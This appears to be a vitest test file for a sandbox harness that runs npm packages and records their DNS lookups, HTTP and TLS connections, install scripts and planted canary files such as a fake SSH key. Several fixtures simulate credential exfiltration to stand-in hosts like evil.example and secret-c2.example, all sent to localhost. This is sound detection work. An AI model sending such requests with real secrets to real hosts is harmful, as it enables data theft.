import { execFile } from 'node:child_process';
import dgram from 'node:dgram';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { childEnv, lifecycleCommands, plantCanaries, reportEvents } from '../../sandbox/harness/launch.js';
import { describeCapture, parseClientHelloSni, startListeners } from '../../sandbox/harness/listeners.js';
import { buildResponse, parseQuery, readName, startResolver } from '../../sandbox/harness/resolver.js';
import { extractHarnessBlock, parseHarnessEvents } from './strace.js';

const HARNESS = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../sandbox/harness');
const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  await Promise.allSettled(cleanups.splice(0).map((c) => c()));
});

function encodeName(name: string): Buffer {
  return Buffer.concat([...name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0])]);
}

function dnsQuery(name: string, qtype = 1, id = 0x1234): Buffer {
  const header = Buffer.from([id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([header, encodeName(name), Buffer.from([0, qtype, 0, 1])]);
}

function udpExchange(port: number, packet: Buffer, waitMs = 300): Promise<Buffer | undefined> {
  return new Promise((resolve) => {
    const socket = dgram.createSocket('udp4');
    const timer = setTimeout(() => {
      socket.close();
      resolve(undefined);
    }, waitMs);
    socket.on('message', (msg) => {
      clearTimeout(timer);
      socket.close();
      resolve(msg);
    });
    socket.send(packet, port, '127.0.0.1');
  });
}

/** A ClientHello with only a server_name extension, built by hand. */
function clientHello(sni: string): Buffer {
  const name = Buffer.from(sni);
  const entry = Buffer.concat([Buffer.from([0, name.length >> 8, name.length & 0xff]), name]);
  const list = Buffer.concat([Buffer.from([entry.length >> 8, entry.length & 0xff]), entry]);
  const ext = Buffer.concat([Buffer.from([0, 0, list.length >> 8, list.length & 0xff]), list]);
  const body = Buffer.concat([
    Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0]), Buffer.from([0, 2, 0x13, 0x01]), Buffer.from([1, 0]),
    Buffer.from([ext.length >> 8, ext.length & 0xff]), ext,
  ]);
  const hs = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 0xff]), body]);
  return Buffer.concat([Buffer.from([0x16, 3, 1, hs.length >> 8, hs.length & 0xff]), hs]);
}

describe('resolver', () => {
  it('answers A queries with 127.0.0.1, AAAA with no records, and records each name once', async () => {
    const resolver = await startResolver({ port: 0, phase: 'install' });
    cleanups.push(() => resolver.close());
    const a = await udpExchange(resolver.port, dnsQuery('Exfil.Example.com'));
    expect(a?.readUInt16BE(0)).toBe(0x1234);
    expect(a?.readUInt16BE(6)).toBe(1); // one answer
    expect([...(a ?? Buffer.alloc(0)).subarray(-4)]).toEqual([127, 0, 0, 1]);
    const aaaa = await udpExchange(resolver.port, dnsQuery('exfil.example.com', 28));
    expect(aaaa?.readUInt16BE(6)).toBe(0);
    await udpExchange(resolver.port, dnsQuery('Exfil.Example.com'));
    expect(resolver.events).toEqual([
      { type: 'dns', phase: 'install', name: 'Exfil.Example.com', qtype: 'A' },
      { type: 'dns', phase: 'install', name: 'exfil.example.com', qtype: 'AAAA' },
    ]);
  });

  it('survives malformed packets and keeps answering', async () => {
    const resolver = await startResolver({ port: 0 });
    cleanups.push(() => resolver.close());
    const loop = Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), Buffer.from([0xc0, 12, 0, 1, 0, 1])]);
    const forward = Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), Buffer.from([0xc0, 20, 0, 1, 0, 1])]);
    const longLabel = Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), Buffer.from([63]), Buffer.alloc(10, 0x61)]);
    const tooLong = Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...Array.from({ length: 10 }, () => Buffer.concat([Buffer.from([63]), Buffer.alloc(63, 0x61)])), Buffer.from([0, 0, 1, 0, 1])]);
    for (const bad of [Buffer.alloc(0), Buffer.from([1, 2, 3]), loop, forward, longLabel, tooLong, Buffer.alloc(5000, 0xff)]) {
      await udpExchange(resolver.port, bad, 50);
    }
    const reply = await udpExchange(resolver.port, loop);
    expect(reply?.readUInt16BE(2)).toBe(0x8001); // QR + FORMERR
    const good = await udpExchange(resolver.port, dnsQuery('still.works'));
    expect(good?.readUInt16BE(6)).toBe(1);
    expect(resolver.stats.malformed).toBeGreaterThanOrEqual(7);
    expect(resolver.events.map((e) => e.name)).toEqual(['still.works']);
  });

  it('reads compressed names, escapes odd bytes and caps recorded names', async () => {
    const msg = Buffer.concat([Buffer.alloc(12), encodeName('a.example'), Buffer.from([3, 0x1b, 0x2e, 0x5c, 0xc0, 12])]);
    expect(readName(msg, 23)).toEqual({ name: '\\027\\046\\092.a.example', end: 29 });
    const q = parseQuery(dnsQuery('x.y'));
    expect(q && buildResponse(q).length).toBeGreaterThan(12);
    const resolver = await startResolver({ port: 0, maxNames: 3 });
    cleanups.push(() => resolver.close());
    for (let i = 0; i < 6; i++) await udpExchange(resolver.port, dnsQuery(`n${i}.example`));
    expect(resolver.events).toHaveLength(3);
    expect(resolver.stats.dropped).toBe(3);
  });
});

function connectAndSend(port: number, data: Buffer | string, waitForClose = true): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write(data));
    let got = '';
    socket.on('data', (d) => (got += d.toString()));
    socket.on('error', reject);
    socket.on('close', () => resolve(got));
    if (!waitForClose) setTimeout(() => socket.end(), 20);
  });
}

describe('listeners', () => {
  it('records HTTP method, Host, path and body, and answers with an empty 200', async () => {
    const l = await startListeners({ ports: [0, 0], phase: 'start' });
    cleanups.push(() => l.close());
    expect(l.ports).toHaveLength(2);
    const body = 'k=AKIAEXAMPLE';
    const answer = await connectAndSend(l.ports[0] ?? 0, `POST /collect?x=1 HTTP/1.1\r\nHost: evil.example\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
    expect(answer).toMatch(/^HTTP\/1.1 200 OK/);
    expect(l.events[0]).toMatchObject({ type: 'capture', port: l.ports[0], method: 'POST', path: '/collect?x=1', host: 'evil.example' });
    expect(l.events[0]?.excerpt).toContain(body);
  });

  it('reads the SNI of a TLS ClientHello and copes with a truncated one', async () => {
    const l = await startListeners({ ports: [0], windowMs: 200 });
    cleanups.push(() => l.close());
    const hello = clientHello('secret-c2.example');
    await connectAndSend(l.ports[0] ?? 0, hello);
    await connectAndSend(l.ports[0] ?? 0, hello.subarray(0, 60), false);
    await new Promise((r) => setTimeout(r, 300));
    expect(l.events[0]).toMatchObject({ sni: 'secret-c2.example' });
    expect(l.events[1]?.sni).toBeUndefined();
    expect(l.events[1]?.bytes).toBe(60);
  });

  it.each([
    ['empty', Buffer.alloc(0)],
    ['record header only', Buffer.from([0x16, 3, 1, 0xff, 0xff])],
    ['lying extension length', (() => { const h = clientHello('a.example'); h.writeUInt16BE(0xffff, h.length - 13 - 2); return h; })()],
    ['name longer than the record', (() => { const h = clientHello('abc.example'); h.writeUInt16BE(500, h.length - 'abc.example'.length - 2); return h; })()],
    ['random bytes', Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) & 0xff))],
  ])('SNI parser returns nothing for %s', (_name, buf) => {
    expect(parseClientHelloSni(buf)).toBeUndefined();
  });

  it('bounds what it keeps: bytes, excerpt, connections', async () => {
    const l = await startListeners({ ports: [0], maxBytes: 4096, windowMs: 300, maxConnections: 2 });
    cleanups.push(() => l.close());
    for (let i = 0; i < 4; i++) await connectAndSend(l.ports[0] ?? 0, Buffer.alloc(100_000, 0x41));
    expect(l.events).toHaveLength(2);
    expect(l.events[0]?.bytes).toBe(4096);
    expect(l.events[0]?.excerpt.length).toBe(2048);
    expect(l.stats.dropped).toBe(2);
  });

  it('makes control characters in captured text visible as dots', () => {
    const e = describeCapture(Buffer.from('GET /\u001b[2J HTTP/1.1\r\nHost: a\u202eb\r\n\r\n'), 80, 'start');
    expect(e.path).toBe('/.[2J');
    expect(e.excerpt).not.toMatch(/\u001b/);
  });

  it('records a port it cannot bind instead of failing', async () => {
    const first = await startListeners({ ports: [0] });
    cleanups.push(() => first.close());
    const second = await startListeners({ ports: [first.ports[0] ?? 0] });
    cleanups.push(() => second.close());
    expect(second.failed).toMatchObject([{ port: first.ports[0], error: 'EADDRINUSE' }]);
  });
});

describe('launch', () => {
  it('plants canary files only under home, with private modes', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'assay-launch-'));
    cleanups.push(() => rm(dir, { recursive: true, force: true }));
    const files = { [`${dir}/home/.ssh/id_rsa`]: 'KEY', [`${dir}/home/../escape`]: 'NO', '/etc/passwd-x': 'NO' };
    const written = plantCanaries(Buffer.from(JSON.stringify(files)).toString('base64'), `${dir}/home`);
    expect(written).toEqual([`${dir}/home/.ssh/id_rsa`]);
    expect((await stat(`${dir}/home/.ssh/id_rsa`)).mode & 0o777).toBe(0o600);
    expect((await stat(`${dir}/home/.ssh`)).mode & 0o777).toBe(0o700);
  });

  it('lists the lifecycle scripts npm would run, in order', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'assay-launch-'));
    cleanups.push(() => rm(dir, { recursive: true, force: true }));
    await writeFile(path.join(dir, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', scripts: { postinstall: 'b', test: 'x', preinstall: 'a', install: ' ' } }));
    expect(lifecycleCommands(dir).map((c) => [c.name, c.script, c.env.npm_lifecycle_event])).toEqual([['preinstall', 'a', 'preinstall'], ['postinstall', 'b', 'postinstall']]);
    expect(lifecycleCommands(path.join(dir, 'missing'))).toEqual([]);
    expect(childEnv({ ASSAY_CANARY_FILES: 'x', PATH: '/bin' }, { A: '1' })).toEqual({ PATH: '/bin', A: '1' });
  });

  it('reports events to the file and between nonce markers that the host can extract', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'assay-launch-'));
    cleanups.push(() => rm(dir, { recursive: true, force: true }));
    let stderr = 'server noise\n';
    const events = [{ type: 'dns', phase: 'start', name: 'a.example', qtype: 'A' }];
    reportEvents(events, path.join(dir, 'events.jsonl'), { write: (s: string) => (stderr += s) });
    expect(parseHarnessEvents(await readFile(path.join(dir, 'events.jsonl'), 'utf8')).events).toEqual(events);
    expect(parseHarnessEvents(extractHarnessBlock(stderr) ?? '').events).toEqual(events);
  });

  it('runs a start command with resolver and listeners up, then writes the events (no strace)', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'assay-launch-'));
    cleanups.push(() => rm(dir, { recursive: true, force: true }));
    const port = await freePort();
    const dnsPort = await freePort();
    // Our own inline client, not a fixture: it resolves a name through the harness resolver and posts to the listener.
    const client = `
      const dgram = require('node:dgram'); const http = require('node:http');
      const q = Buffer.concat([Buffer.from([0,7,1,0,0,1,0,0,0,0,0,0]), Buffer.from([4]), Buffer.from('evil'), Buffer.from([7]), Buffer.from('example'), Buffer.from([0,0,1,0,1])]);
      const s = dgram.createSocket('udp4'); s.on('message', () => { s.close();
        const r = http.request({ host: '127.0.0.1', port: ${port}, method: 'POST', path: '/x', headers: { host: 'evil.example' } }, (res) => { res.resume(); res.on('end', () => process.exit(3)); });
        r.end('data'); });
      s.send(q, ${dnsPort}, '127.0.0.1');`;
    const result = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      execFile(process.execPath, [path.join(HARNESS, 'launch.js')], {
        env: { PATH: process.env.PATH ?? '', ASSAY_PHASE: 'start', ASSAY_CMD: JSON.stringify([process.execPath, '-e', client]), ASSAY_PKG: dir, ASSAY_OUT: path.join(dir, 'out'), ASSAY_HOME: path.join(dir, 'home'), ASSAY_NO_STRACE: '1', ASSAY_PORTS: String(port), ASSAY_DNS_PORT: String(dnsPort) },
        timeout: 10_000,
      }, (err, _stdout, stderr) => resolve({ code: err ? (typeof err.code === 'number' ? err.code : null) : 0, stderr }));
    });
    expect(result.code).toBe(3);
    const file = parseHarnessEvents(await readFile(path.join(dir, 'out', 'events-start.jsonl'), 'utf8'));
    expect(file.events).toMatchObject([{ type: 'dns', name: 'evil.example' }, { type: 'capture', port, host: 'evil.example', method: 'POST', path: '/x' }]);
    expect(parseHarnessEvents(extractHarnessBlock(result.stderr) ?? '').events).toEqual(file.events);
  });
});

async function freePort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const address = server.address();
  await new Promise((r) => server.close(r));
  return typeof address === 'object' && address ? address.port : 0;
}
